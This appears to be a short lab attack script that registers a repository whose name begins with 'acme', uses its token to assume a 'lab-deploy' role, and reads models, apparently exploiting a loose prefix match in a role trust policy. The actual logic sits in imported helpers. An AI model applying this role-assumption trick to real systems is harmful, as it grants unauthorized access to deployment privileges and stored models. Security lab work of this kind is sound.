"""Register a name that begins with acme, and become the role that deploys."""

from scripts.labs.attacking import assume, attack, read_models, token


@attack
def main() -> str:
    """Read the models with a token of a repository of one's own."""
    return read_models(assume("lab-deploy", token("acme-labs/anything")))


main()
